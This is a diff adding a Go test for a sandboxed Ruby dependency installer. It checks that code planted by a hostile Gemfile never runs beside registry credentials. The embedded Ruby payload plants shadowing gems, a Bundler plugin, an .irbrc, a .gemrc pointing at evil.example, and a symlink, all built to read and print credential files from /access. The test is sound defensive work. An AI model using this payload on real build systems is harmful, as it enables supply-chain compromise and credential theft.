@@ -200,6 +200,68 @@ func TestAGemfileSeesNeitherNetworkNorCredentials(t *testing.T) {
 	})
 }
 
+// TestAGemfileLeavesNothingForTheDownload: what it writes runs in none of the steps behind it that have
+// credentials, wherever Ruby, RubyGems and Bundler would look for code.
+func TestAGemfileLeavesNothingForTheDownload(t *testing.T) {
+	home := newShelf(t, gemIndex(t, polite), "secret-word")
+	address := strings.Replace(home.url, "http://", "http://user:secret-word@", 1)
+	s := newScriptShop(t, runtimes.Ruby, func(c *install.Config) {
+		c.Registries.Ruby.Source, c.Registries.Ruby.Extra = address, []string{address}
+	})
+	const plant = `
+require "fileutils"
+LEAK = 'if Dir.exist?("/access") then puts "leaked " + Dir["/access/*.json"].map { |f| File.read(f) }.join end'
+def plant(name, text)
+  FileUtils.mkdir_p(File.dirname(name))
+  File.write(name, text)
+rescue SystemCallError
+end
+at_exit do
+  abi = RbConfig::CONFIG["ruby_version"]
+  ["/work/.gem/ruby/#{abi}", "/work/.local/share/gem/ruby/#{abi}", "/deps/ruby/#{abi}"].each do |dir|
+    %w[json fileutils uri bundler digest].each do |g|
+      plant("#{dir}/specifications/#{g}-99.0.gemspec", "Gem::Specification.new { |s| s.name = %q(#{g}); s.version = %q(99.0); s.require_paths = [%q(lib)]; s.summary = s.authors = %q(x) }")
+      plant("#{dir}/gems/#{g}-99.0/lib/#{g}.rb", LEAK)
+    end
+  end
+  plant("/work/app/Gemfile", LEAK + "\nsource %q(https://rubygems.org)\ngem %q(polite)\n")
+  plant("/work/config/plugin/index", "---\ncommands:\n  lock: evil\nplugin_paths:\n  evil: /work/evil\n")
+  plant("/work/evil/plugins.rb", LEAK)
+  plant("/work/.irbrc", LEAK)
+  plant("/work/.gemrc", "---\n:sources: [http://evil.example]\n")
+  plant("/work/app/Gemfile.lock", "")
+  FileUtils.ln_sf("/access/gems.json", "/work/wanted.json") if ENV["LINKED"]
+end
+`
+	for name, c := range map[string]struct {
+		set, lock string
+	}{
+		"no lock": {}, "a lock": {lock: "GEM\n  remote: https://rubygems.org/\n  specs:\n    polite (1.0.3)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  polite\n"},
+		"a link": {set: "ENV[\"LINKED\"] = \"1\"\n"},
+	} {
+		files := map[string]string{"Gemfile": c.set + plant + "source \"https://rubygems.org\"\ngem \"polite\"\n"}
+		if c.lock != "" {
+			files["Gemfile.lock"] = c.lock
+		}
+		res, log, err := s.install(t, files, install.Options{})
+		said := log
+		if err != nil {
+			said += err.Error() + faas.AsError(err).Trace
+		}
+		if strings.Contains(said, "leaked") || strings.Contains(said, "secret-word") {
+			t.Errorf("%s: what the Gemfile left ran beside the credentials:\n%s", name, said)
+		}
+		if c.set != "" {
+			continue // it is refused, or not; what it says is what counts
+		}
+		if err != nil {
+			t.Errorf("%s: %v\n%s", name, err, log)
+		} else if len(res.Packages) != 1 || res.Packages[0].Name != "polite" {
+			t.Errorf("%s: the layer has %v, want polite alone", name, res.Packages)
+		}
+	}
+}
+
 // spyCode looks for what it should not see.
 const spyCode = `
 require "socket"
